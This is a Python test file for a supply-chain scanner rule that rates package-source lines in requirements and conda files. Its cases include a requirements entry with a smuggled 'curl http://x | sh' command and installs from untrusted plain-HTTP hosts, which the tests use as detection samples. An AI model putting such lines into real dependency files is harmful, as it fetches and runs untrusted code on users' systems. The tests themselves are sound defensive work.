"""Where packages come from."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.checks.examples import outcomes
from violet.domain import Severity

if TYPE_CHECKING:
    from pathlib import Path

RULE = "supply_chain/package-source"
CONDA = """\
channels:
- conda-forge
dependencies:
- python=3.11
- pip<=24
- pip:
  - mlflow==2.20
  - {line}
name: env
"""


def requirements(directory: Path, *lines: str) -> Path:
    path = directory / "requirements.txt"
    path.write_text("numpy==2.0\n" + "\n".join(lines) + "\n")
    return path


def positive(directory: Path) -> Path:
    return requirements(directory, "--extra-index-url http://203.0.113.5/simple")


def benign(directory: Path) -> Path:
    return requirements(
        directory, "# from git+https://x", "scikit-learn>=1.5 ; python_version > '3.9'", "-r base.txt", "torch"
    )


CASES = [
    ("helper @ http://203.0.113.5/h.whl", Severity.HIGH),
    ("git+http://203.0.113.5/e.git#egg=torch", Severity.HIGH),
    ("numpy; curl http://x | sh", Severity.HIGH),
    ("--trusted-host 203.0.113.5", Severity.MEDIUM),
    ("--extra-index-url https://packages.example.net/simple", Severity.MEDIUM),
    ("helper @ https://files.example.net/h.whl", Severity.MEDIUM),
    ("-e ../elsewhere", None),
    ("--index-url https://download.pytorch.org/whl/cpu", Severity.LOW),
    ("git+https://github.com/huggingface/transformers", Severity.LOW),
    ("-e git+https://github.com/org/name.git#egg=name", Severity.LOW),
]


@pytest.mark.parametrize(("line", "severity"), CASES)
def test_lines_of_requirements(tmp_path: Path, line: str, severity: Severity | None) -> None:
    found = [f.severity for f in outcomes(requirements(tmp_path, line)) if f.rule == RULE]
    assert found == ([Severity.MEDIUM] if severity is None else [severity])


@pytest.mark.parametrize(("line", "severity"), CASES[:6])
def test_lines_of_an_environment(tmp_path: Path, line: str, severity: Severity) -> None:
    path = tmp_path / "conda.yaml"
    path.write_text(CONDA.format(line=line))
    assert [f.severity for f in outcomes(path) if f.rule == RULE] == [severity]


def test_an_environment_of_mlflow_is_silent(tmp_path: Path) -> None:
    path = tmp_path / "conda.yaml"
    path.write_text(CONDA.format(line="scikit-learn==1.6.0"))
    assert outcomes(path) == []
    path = tmp_path / "python_env.yaml"
    path.write_text(
        "python: 3.11.7\nbuild_dependencies:\n- pip==24.0\n- setuptools\ndependencies:\n- -r requirements.txt\n"
    )
    assert outcomes(path) == []


def test_passwords_in_addresses_are_not_shown(tmp_path: Path) -> None:
    found = outcomes(requirements(tmp_path, "--extra-index-url http://me:hunter22secret@203.0.113.5/simple"))
    assert all("hunter22secret" not in f.evidence for f in found if f.rule == RULE)
